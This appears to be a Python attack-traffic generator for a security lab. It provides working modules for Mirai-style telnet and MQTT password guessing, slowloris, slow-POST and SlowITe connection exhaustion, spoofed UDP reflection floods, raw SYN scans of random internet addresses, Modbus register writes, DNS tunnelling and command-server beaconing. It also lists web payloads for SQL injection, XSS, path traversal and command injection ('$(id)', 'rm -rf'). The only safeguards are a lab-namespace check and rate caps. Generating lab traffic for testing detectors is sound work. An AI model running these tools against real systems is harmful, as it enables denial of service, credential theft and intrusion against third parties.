"""Attack programs of ours, where no apt tool does the thing or does it slowly: `python -m lab.bots KIND ...`.

Run by the lab on an attacking host of its own network and nowhere else: every kind is bounded by a count and a rate
that the command line must give, and carries nothing that would harm (`refuse_outside_a_lab` checks where it stands).
"""

from __future__ import annotations

import argparse
import contextlib
import ipaddress
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable

PATIENCE_S = 4.0
MOST = 20_000  # no kind does anything more often than this, whatever it was told


class Pace:
    """A clock that gives turns at a rate, shared by threads, until the count is used up."""

    def __init__(self, *, count: int, per_s: float, rng: random.Random) -> None:
        self._left = min(count, MOST)
        self._gap_s = 1.0 / per_s
        self._rng = rng
        self._due_s = time.monotonic()
        self._lock = threading.Lock()

    def turn(self) -> bool:
        """Wait for the next turn; False where none is left."""
        with self._lock:
            if self._left <= 0:
                return False
            self._left -= 1
            self._due_s = max(self._due_s, time.monotonic() - 0.1) + self._gap_s * self._rng.uniform(0.6, 1.4)
            wait_s = self._due_s - time.monotonic()
        if wait_s > 0:
            time.sleep(wait_s)
        return True


class Told:
    """What the command line asked for."""

    def __init__(self, arguments: argparse.Namespace) -> None:
        self.target: str = arguments.target
        self.port: int = arguments.port
        self.ports: list[int] = arguments.ports or [arguments.port]
        self.parallel: int = arguments.parallel
        self.size_bytes: int = arguments.size
        self.hold_s: float = arguments.hold
        self.words: list[str] = arguments.words
        self.rng = random.Random(arguments.seed)
        self.pace = Pace(count=arguments.count, per_s=arguments.rate, rng=self.rng)

    def connect(self, port: int | None = None) -> socket.socket:
        return socket.create_connection((self.target, port or self.port), timeout=PATIENCE_S)

    def in_parallel(self, deed: Callable[[], None]) -> None:
        """Do a deed at each turn, in `parallel` threads; what the network says is not our concern."""

        def work() -> None:
            while self.pace.turn():
                with contextlib.suppress(OSError):
                    deed()

        threads = [threading.Thread(target=work, daemon=True) for _ in range(self.parallel)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def telnet_guess(told: Told) -> None:
    """Guess default passwords, a few per connection, as Mirai's scanner does."""
    pairs = [line.partition(":") for line in told.words]

    def prompt(line: socket.socket) -> None:
        seen = b""
        while not seen.rstrip().endswith((b":", b"#", b"$")):
            if not (chunk := line.recv(512)):
                raise ConnectionResetError
            seen += chunk
            for at in range(len(chunk) - 2):
                if chunk[at] == 255 and chunk[at + 1] in (251, 253):
                    line.sendall(bytes([255, 254 if chunk[at + 1] == 251 else 252, chunk[at + 2]]))

    def visit() -> None:
        with told.connect() as line:
            for _ in range(max(1, int(told.hold_s))):
                user, _, password = told.rng.choice(pairs)
                for text in (user, password):
                    prompt(line)
                    line.sendall(f"{text}\r\n".encode())
                prompt(line)

    told.in_parallel(visit)


def _mqtt_connect(*, client: str, user: str = "", password: str = "") -> bytes:
    def text(value: str) -> bytes:
        return struct.pack(">H", len(value)) + value.encode()

    flags = 0x02 | (0xC0 if user else 0)
    body = text("MQTT") + bytes([4, flags]) + struct.pack(">H", 60) + text(client)
    body += text(user) + text(password) if user else b""
    return bytes([0x10, len(body)]) + body


def mqtt_guess(told: Told) -> None:
    """Try a password per connection: CONNECT, CONNACK, close."""

    def guess() -> None:
        user, _, password = told.rng.choice(told.words).partition(":")
        with told.connect() as line:
            line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**6)}", user=user, password=password))
            line.recv(16)

    told.in_parallel(guess)


def mqtt_connects(told: Told) -> None:
    """Open connections to a broker and leave them open for a while."""
    held: list[socket.socket] = []

    def visit() -> None:
        line = told.connect()
        line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**9)}"))
        line.recv(16)
        held.append(line)
        if len(held) > 100:
            held.pop(0).close()

    told.in_parallel(visit)


def mqtt_publishes(told: Told) -> None:
    """Publish at a high rate over few connections."""
    topic, body = b"\x00\x04home", bytes(min(told.size_bytes, 16_000))
    length = len(topic) + len(body)
    message = b"\x30" + bytes([length % 128 | (0x80 if length > 127 else 0)])
    message += (bytes([length // 128]) if length > 127 else b"") + topic + body

    def work() -> None:
        with told.connect() as line:
            line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**9)}"))
            line.recv(16)
            while told.pace.turn():
                line.sendall(message)

    for _ in range(told.parallel):
        thread = threading.Thread(target=work)
        thread.start()
        told.hold_s = max(told.hold_s, 0.0)
    for thread in threading.enumerate():
        if thread is not threading.current_thread():
            thread.join()


def mqtt_malformed(told: Told) -> None:
    """Send packets to a broker that MQTT does not allow."""

    def visit() -> None:
        with told.connect() as line:
            if told.rng.random() < 0.6:
                line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**6)}"))
                line.recv(16)
            for _ in range(told.rng.randint(1, 6)):
                line.sendall(told.rng.randbytes(told.rng.randint(2, 200)))
            line.recv(64)

    told.in_parallel(visit)


def modbus_misuse(told: Told) -> None:
    """Write registers and try function codes nobody uses."""

    def visit() -> None:
        with told.connect() as line:
            for turn in range(told.rng.randint(1, 12)):
                function = told.rng.choice([5, 6, 15, 16, 8, 43, 90, 100])
                body = bytes([1, function]) + told.rng.randbytes(told.rng.choice([4, 4, 4, 9, 40]))
                line.sendall(struct.pack(">HHH", turn, 0, len(body)) + body)
                line.recv(260)

    told.in_parallel(visit)


def http_requests(told: Told) -> None:
    """Ask for pages as fast as the rate allows, one connection each or several requests per connection."""

    def visit() -> None:
        with told.connect() as line:
            for _ in range(max(1, int(told.hold_s))):
                path = f"/?{told.rng.randrange(10**8)}" if told.rng.random() < 0.8 else "/"
                line.sendall(f"GET {path} HTTP/1.1\r\nHost: {told.target}\r\nUser-Agent: x\r\n\r\n".encode())
                line.recv(8192)

    told.in_parallel(visit)


WEB_TRIALS = (
    "/index.php?id=1%27%20OR%20%271%27=%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/../../../../etc/passwd",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "/shell?cd+/tmp;rm+-rf+x",
    "/login.cgi?cli=aa%20aa%27;id%20%27$", "/items?id=1%20UNION%20SELECT%20user,pass%20FROM%20users--",
)


def web_trials(told: Told) -> None:
    """Try well-known holes of device web pages, which the lab's pages do not have."""

    def visit() -> None:
        path = told.rng.choice(WEB_TRIALS) + "&n=" + "a" * told.rng.randrange(200)
        verb = told.rng.choice(["GET", "GET", "POST"])
        body = "x" * told.rng.randrange(400) if verb == "POST" else ""
        with told.connect() as line:
            line.sendall(f"{verb} {path} HTTP/1.0\r\nHost: {told.target}\r\nContent-Length: {len(body)}\r\n\r\n{body}"
                         .encode())
            while line.recv(8192):
                pass

    told.in_parallel(visit)


def _hold_open(told: Told, *, opening: bytes, crumb: bytes) -> None:
    """Open connections at the rate, then feed each a crumb at a time until `hold_s` are over."""
    held: list[socket.socket] = []
    end_s = time.monotonic() + told.hold_s
    next_crumbs_s = time.monotonic() + told.rng.uniform(1, 5)
    more = True
    while time.monotonic() < end_s:
        more = more and told.pace.turn()
        if more:
            with contextlib.suppress(OSError):
                line = told.connect()
                line.sendall(opening)
                held.append(line)
        else:
            time.sleep(0.05)
        if time.monotonic() > next_crumbs_s:
            next_crumbs_s = time.monotonic() + told.rng.uniform(1, 5)
            for line in held:
                with contextlib.suppress(OSError):
                    line.sendall(crumb)
    for line in held:
        line.close()


def slow_headers(told: Told) -> None:
    """Keep HTTP requests open by headers that never end (slowloris)."""
    _hold_open(told, opening=f"GET / HTTP/1.1\r\nHost: {told.target}\r\n".encode(), crumb=b"X-a: b\r\n")


def slow_body(told: Told) -> None:
    """Keep HTTP requests open by a body that comes a few bytes at a time (slow POST)."""
    opening = f"POST /upload HTTP/1.1\r\nHost: {told.target}\r\nContent-Length: 100000\r\n\r\n".encode()
    _hold_open(told, opening=opening, crumb=b"ab")


def slow_mqtt(told: Told) -> None:
    """Keep MQTT sessions open that say nothing (SlowITe)."""
    _hold_open(told, opening=_mqtt_connect(client=""), crumb=b"\xc0\x00")


def knock(told: Told) -> None:
    """Try the ports of a host one after the other by plain connections, at any rate down to one in many seconds."""
    order = list(told.ports)
    told.rng.shuffle(order)

    def probe() -> None:
        if order:
            told.connect(order.pop()).close()

    told.in_parallel(probe)


def _checksum(words: bytes) -> int:
    total = sum(struct.unpack(f">{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def _raw() -> socket.socket:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return raw


def _ip_packet(*, source: str, target: str, proto: int, body: bytes, rng: random.Random) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    pseudo = ends + struct.pack(">BBH", 0, proto, len(body))
    at = 16 if proto == socket.IPPROTO_TCP else 6
    checksum = _checksum(pseudo + body + b"\0" * (len(body) % 2))
    body = body[:at] + struct.pack(">H", checksum) + body[at + 2:]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), rng.randrange(65536), 0, rng.choice([64, 128]), proto, 0)
    return head + ends + body


def _random_address(rng: random.Random) -> str:
    while True:
        address = ipaddress.IPv4Address(rng.getrandbits(32))
        if address.is_global and not address.is_multicast:
            return str(address)


def search_internet(told: Told) -> None:
    """Send SYNs to random addresses outside, on few ports, without a connection behind them (Mirai's scanner)."""
    raw, own = _raw(), told.target  # the address answers would come back to
    sequence = told.rng.getrandbits(32)
    window, options = told.rng.choice([1024, 5840, 14600, 65535]), told.rng.choice([b"", b"\x02\x04\x05\xb4"])
    while told.pace.turn():
        port = told.ports[0] if told.rng.random() < 0.7 else told.rng.choice(told.ports)
        body = struct.pack(">HHIIBBHHH", told.rng.randrange(1024, 65536), port, sequence, 0,
                           (20 + len(options)) // 4 << 4, 2, window, 0, 0) + options
        target = _random_address(told.rng)
        raw.sendto(_ip_packet(source=own, target=target, proto=6, body=body, rng=told.rng), (target, 0))


def reflected(told: Told) -> None:
    """Send large answers nobody asked for, as reflectors do: few sources, one source port, any target port."""
    raw = _raw()
    sources = [_random_address(told.rng) for _ in range(max(1, told.parallel))]
    first_port = told.rng.randrange(1024, 60000)
    aims_at_one_port = told.rng.random() < 0.5
    while told.pace.turn():
        port = first_port if aims_at_one_port else told.rng.randrange(1024, 65536)
        payload = bytes(int(told.size_bytes * told.rng.uniform(0.8, 1.0)))
        body = struct.pack(">HHHH", told.port, port, 8 + len(payload), 0) + payload
        packet = _ip_packet(source=told.rng.choice(sources), target=told.target, proto=17, body=body, rng=told.rng)
        if len(packet) <= 1500:
            raw.sendto(packet, (told.target, 0))


def beacon(told: Told) -> None:
    """Call a command server again and again: one small exchange per connection."""

    def call() -> None:
        with told.connect() as line:
            line.sendall(told.rng.randbytes(told.size_bytes))
            line.recv(4096)

    told.in_parallel(call)


def name_tunnel(told: Told) -> None:
    """Carry bytes out in the labels of DNS questions."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.5)
        while told.pace.turn():
            labels = [f"{told.rng.getrandbits(240):060x}" for _ in range(max(1, told.size_bytes // 60))][:3] + ["t", "io"]
            question = b"".join(bytes([len(label)]) + label.encode() for label in labels)
            kind = told.rng.choice([16, 16, 1, 10])
            header = struct.pack(">HHHHHH", told.rng.randrange(65536), 0x0100, 1, 0, 0, 0)
            with contextlib.suppress(OSError):
                client.sendto(header + question + struct.pack(">BHH", 0, kind, 1), (told.target, 53))
                client.recv(2048)


def upload(told: Told) -> None:
    """Send `size_bytes` in one or more connections to a server outside, at the rate in kB/s."""
    left = told.size_bytes
    block = bytes(1000)
    with told.connect() as line:
        while left > 0 and told.pace.turn():
            line.sendall(block)
            left -= len(block)


KINDS: dict[str, Callable[[Told], None]] = {
    kind.__name__: kind
    for kind in (
        telnet_guess, mqtt_guess, mqtt_connects, mqtt_publishes, mqtt_malformed, modbus_misuse, http_requests,
        web_trials, slow_headers, slow_body, slow_mqtt, knock, search_internet, reflected, beacon, name_tunnel, upload,
    )
}


def refuse_outside_a_lab() -> None:
    """Exit unless this process stands in a namespace that a lab made."""
    from lab.network import NAMESPACE_PREFIX
    from lab.tools import find

    name = subprocess.run([find("ip"), "netns", "identify", str(os.getpid())], capture_output=True, text=True, check=False)
    if not name.stdout.startswith(NAMESPACE_PREFIX):
        sys.exit("lab.bots: runs only on a host of a lab's own network")


def main() -> None:
    """Run one kind of attack to its end."""
    parser = argparse.ArgumentParser(prog="lab.bots", description=__doc__)
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("--target", required=True)
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--ports", type=lambda text: [int(port) for port in text.split(",")])
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=float, required=True, help="turns a second")
    parser.add_argument("--parallel", type=int, default=1)
    parser.add_argument("--size", type=int, default=64, help="bytes")
    parser.add_argument("--hold", type=float, default=1.0, help="seconds, or turns per connection")
    parser.add_argument("--words", type=lambda path: open(path).read().split(), default=["root:root"])
    parser.add_argument("--seed", type=int, default=0)
    arguments = parser.parse_args()
    refuse_outside_a_lab()
    KINDS[arguments.kind](Told(arguments))


if __name__ == "__main__":
    main()
